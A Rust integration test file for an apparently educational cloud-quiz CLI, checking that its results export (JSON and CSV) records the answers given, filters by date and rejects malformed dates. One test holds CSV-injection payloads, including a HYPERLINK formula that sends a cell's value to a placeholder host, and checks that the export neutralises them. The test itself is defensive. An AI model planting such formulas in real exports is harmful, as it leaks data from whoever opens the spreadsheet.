//! `cloudtutor results` end to end: answer a quiz in plain mode with the real binary, then
//! export; the export holds exactly those answers.
#[path = "plain/answers.rs"]
mod answers;

use std::collections::BTreeMap;

use answers::{Mode, cloudtutor, line_for, stderr, stdout, write_mini_course};
use cloudtutor::api::content::{Catalog, ContentSource};
use cloudtutor::api::quiz::Session;

/// Parses RFC 4180 CSV (quoted fields with doubled quotes, newlines inside quotes).
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(
        field.is_empty() && row.is_empty(),
        "CSV ends with a newline"
    );
    rows
}

/// Answers the mini quiz in plain mode: right for the questions in `right`, wrong otherwise.
/// Returns the expected `question -> correct`.
fn answer_mini(course: &std::path::Path, data: &std::path::Path) -> BTreeMap<String, bool> {
    let catalog = Catalog::load(&ContentSource::Dir(course.to_path_buf()));
    let quiz = catalog.quiz("mini").expect("mini quiz");
    let mut s = Session::new(quiz, 7);
    let mut input = String::new();
    let mut expected = BTreeMap::new();
    while let Some(c) = s.current() {
        let right = matches!(c.question.id.as_str(), "pick" | "sort" | "cost");
        let mode = if right { Mode::Right } else { Mode::Wrong };
        input.push_str(&line_for(&c, mode));
        input.push('\n');
        expected.insert(c.question.id.clone(), right);
        s.next();
    }
    let dir = course.to_str().expect("utf-8 path");
    let out = cloudtutor(
        &["quiz", "mini", "--plain", "--seed", "7", "--content", dir],
        data,
        &input,
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(stdout(&out).ends_with("score: 3/6\n"), "{}", stdout(&out));
    expected
}

fn export(
    course: &std::path::Path,
    data: &std::path::Path,
    extra: &[&str],
) -> std::process::Output {
    let dir = course.to_str().expect("utf-8 path");
    let mut args = vec!["results", "--content", dir];
    args.extend_from_slice(extra);
    cloudtutor(&args, data, "")
}

#[test]
fn json_and_csv_hold_exactly_the_answers_given() {
    let course = tempfile::tempdir().expect("tempdir");
    write_mini_course(course.path());
    let data = tempfile::tempdir().expect("tempdir");
    let expected = answer_mini(course.path(), data.path());

    let out = export(
        course.path(),
        data.path(),
        &["--format", "json", "--name", "Ada, L."],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let rows: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).expect("JSON array");
    assert_eq!(rows.len(), expected.len());
    let mut got = BTreeMap::new();
    for r in &rows {
        assert_eq!(r["name"], "Ada, L.");
        assert_eq!(r["quiz"], "mini");
        assert!(r["seconds"].as_f64().is_some_and(|s| s >= 0.0));
        assert!(r["time"].as_str().is_some_and(|t| t.ends_with('Z')));
        got.insert(
            r["question"].as_str().expect("question").to_string(),
            r["correct"].as_bool().expect("correct"),
        );
    }
    assert_eq!(got, expected);
    let by_id = |id: &str| {
        rows.iter()
            .find(|r| r["question"] == id)
            .unwrap_or_else(|| panic!("{id} exported"))
    };
    assert_eq!(by_id("pick")["kind"], "single");
    assert_eq!(by_id("pick")["answer"], "eu-west-1");
    assert_eq!(
        by_id("sort")["answer"],
        "EC2: IaaS; Lambda: FaaS; EBS: IaaS"
    );
    assert_eq!(by_id("cost")["answer"], "1000 ms");
    assert_eq!(by_id("tf")["answer"], "false");

    // Default format: CSV with the same rows.
    let out = export(course.path(), data.path(), &["--name", "Ada, L."]);
    assert_eq!(out.status.code(), Some(0));
    let table = parse_csv(&stdout(&out));
    assert_eq!(
        table[0],
        [
            "name", "time", "quiz", "question", "kind", "answer", "correct", "seconds"
        ]
    );
    assert_eq!(table.len(), expected.len() + 1);
    let mut got = BTreeMap::new();
    for (row, json) in table[1..].iter().zip(&rows) {
        assert_eq!(row.len(), 8, "{row:?}");
        assert_eq!(row[0], "Ada, L.");
        assert_eq!(row[1], json["time"].as_str().expect("time"));
        assert_eq!(row[3], json["question"].as_str().expect("question"));
        assert_eq!(row[5], json["answer"].as_str().expect("answer"));
        got.insert(row[3].clone(), row[6] == "true");
    }
    assert_eq!(got, expected);
    // A name with a comma is quoted, not split.
    assert!(stdout(&out).contains("\"Ada, L.\""));
}

#[test]
fn since_filters_and_bad_dates_exit_2() {
    let course = tempfile::tempdir().expect("tempdir");
    write_mini_course(course.path());
    let data = tempfile::tempdir().expect("tempdir");
    answer_mini(course.path(), data.path());

    let out = export(
        course.path(),
        data.path(),
        &["--since", "2000-01-01", "--format", "json"],
    );
    let all: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).expect("JSON");
    assert_eq!(all.len(), 6);

    for future in ["9999-12-31", "9999-01-01T00:00:00Z"] {
        let out = export(
            course.path(),
            data.path(),
            &["--since", future, "--format", "json"],
        );
        assert_eq!(out.status.code(), Some(0));
        let none: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).expect("JSON");
        assert!(none.is_empty(), "{future}");
        let out = export(course.path(), data.path(), &["--since", future]);
        assert_eq!(
            stdout(&out),
            "name,time,quiz,question,kind,answer,correct,seconds\n"
        );
    }

    for bad in ["yesterday", "2026-02-30", "2026-11-28T25:00:00Z", ""] {
        let out = export(course.path(), data.path(), &["--since", bad]);
        assert_eq!(out.status.code(), Some(2), "{bad}");
        assert!(
            stderr(&out).contains("YYYY-MM-DD"),
            "{bad}: {}",
            stderr(&out)
        );
        assert!(stdout(&out).is_empty());
    }
}

#[test]
fn no_progress_yet_is_an_empty_export() {
    let data = tempfile::tempdir().expect("tempdir");
    let out = cloudtutor(&["results", "--format", "json"], data.path(), "");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(stdout(&out).trim(), "[]");
}

/// OWASP's CSV-injection case: a choice and a learner name that a spreadsheet would run as
/// formulas arrive in CSV as text (a leading `'`), and in JSON exactly as they were.
#[test]
fn csv_cells_never_run_as_formulas_and_json_stays_exact() {
    let course = tempfile::tempdir().expect("tempdir");
    let formula = r#"=HYPERLINK("http://example.invalid/?x="&A1,"x")"#;
    answers::write(
        course.path(),
        "lessons/01-f.md",
        "+++\nid = \"f\"\ntitle = \"F\"\norder = 1\nquiz = \"f\"\n+++\n# F\n",
    );
    answers::write(
        course.path(),
        "quizzes/f.toml",
        &format!(
            "id = \"f\"\ntitle = \"F\"\nlesson = \"f\"\n[[question]]\nid = \"q\"\nkind = \"single\"\n\
             prompt = \"p\"\nchoices = [{formula:?}, \"@SUM(1)\", \"-1+2\"]\nanswer = 0\nexplanation = \"e\"\n"
        ),
    );
    let data = tempfile::tempdir().expect("tempdir");
    let catalog = Catalog::load(&ContentSource::Dir(course.path().to_path_buf()));
    let quiz = catalog.quiz("f").expect("quiz f loads");
    let session = Session::new(quiz, 7);
    let line = line_for(&session.current().expect("a question"), Mode::Right);
    let dir = course.path().to_str().expect("utf-8 path");
    let out = cloudtutor(
        &["quiz", "f", "--plain", "--seed", "7", "--content", dir],
        data.path(),
        &format!("{line}\n"),
    );
    assert!(stdout(&out).ends_with("score: 1/1\n"), "{}", stdout(&out));

    let out = export(course.path(), data.path(), &["--name", "=1+2"]);
    let table = parse_csv(&stdout(&out));
    assert_eq!(table.len(), 2, "{table:?}");
    assert_eq!(table[1][0], "'=1+2");
    assert_eq!(table[1][5], format!("'{formula}"));

    let out = export(
        course.path(),
        data.path(),
        &["--format", "json", "--name", "=1+2"],
    );
    let rows: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).expect("JSON array");
    assert_eq!(rows[0]["name"], "=1+2");
    assert_eq!(rows[0]["answer"], formula);
}
